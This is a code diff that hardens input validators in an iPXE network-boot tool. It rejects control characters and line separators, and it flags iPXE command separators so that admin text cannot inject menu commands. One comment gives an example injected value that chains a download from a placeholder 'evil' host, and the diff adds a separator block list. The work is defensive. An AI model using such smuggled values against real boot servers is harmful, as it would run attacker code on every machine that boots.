@@ -45,7 +45,16 @@ HOSTNAME_RE = re.compile(
     r"^(?=.{1,253}$)[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
     r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*$"
 )
-CONTROL_RE = re.compile(r"[\x00-\x1f\x7f]")
+#: what no one-line admin text may hold: every character of Unicode category Cc (the C0 controls with
+#: newline, CR, tab, NUL and escape; DEL; the C1 controls, NEL U+0085 and CSI U+009B among them) and the
+#: line and paragraph separators U+2028/U+2029 (``str.splitlines`` and JavaScript break lines there).
+#: A newline in a description would start a new command in the iPXE menu served to unknown machines, an
+#: escape would move the cursor of the terminal that shows an error; tab is refused too, as one rule.
+CONTROL_RE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
+#: words iPXE splits one script line into several commands at (its src/core/exec.c, command_terminator):
+#: the menu prints a description as ``item p-NAME DESCRIPTION``, so ``Rocky ; chain http://evil/x`` would
+#: run ``chain`` on every unknown machine; a word starting with ``#`` drops the rest of the line
+IPXE_SEPARATORS = (";", "&&", "||")
 MAC_PATTERN = r"^[0-9A-Fa-f]{2}([:-]?[0-9A-Fa-f]{2}){5}$"
 
 
@@ -83,12 +92,33 @@ def reason_of(error: ErrorDetails) -> str:
 # -------------------------------------------------------------------------------------- validators
 
 
+def control_reason(value: str) -> str | None:
+    """Why ``value`` is not one-line text (the first :data:`CONTROL_RE` character and where), or None.
+
+    The character is shown escaped (``'\\n'``, ``'\\x85'``): the admin cannot see most of them, and the
+    message must stay one line.
+    """
+    found = CONTROL_RE.search(value)
+    if found is None:
+        return None
+    return (
+        f"must not contain control characters (newline, tab, ...): {found.group()!r} "
+        f"at character {found.start() + 1}"
+    )
+
+
+def ipxe_separator(word: str) -> bool:
+    """Whether iPXE reads ``word`` (one whitespace-free word) as the end of a command, not as text."""
+    return word in IPXE_SEPARATORS or word.startswith("#")
+
+
 def text(value: Any) -> str:
-    """A string without control characters (newline, tab, NUL, DEL ...)."""
+    """A string without control characters (see :data:`CONTROL_RE`)."""
     if not isinstance(value, str):
         raise ValueError(f"expected a string, got {type_name(value)}")
-    if CONTROL_RE.search(value):
-        raise ValueError("must not contain control characters (newline, tab, ...)")
+    reason = control_reason(value)
+    if reason is not None:
+        raise ValueError(reason)
     return value
 
 
@@ -138,7 +168,7 @@ def ipv4(value: Any) -> IPv4Address:
 def hostname(value: Any) -> str:
     """An RFC 1123 host name (``web1``, ``web1.lab.example``)."""
     word = text(value)
-    if not HOSTNAME_RE.match(word):
+    if not HOSTNAME_RE.fullmatch(word):
         raise ValueError(f"{word!r} is not a host name (letters, digits, inner '-', dot-separated labels)")
     return word
 
@@ -146,7 +176,7 @@ def hostname(value: Any) -> str:
 def profile_name(value: Any) -> str:
     """A profile or group name, plain enough for URLs and iPXE labels."""
     word = text(value)
-    if not NAME_RE.match(word):
+    if not NAME_RE.fullmatch(word):
         raise ValueError(f"{word!r} is not a profile name (must match {NAME_RE.pattern})")
     return word
 
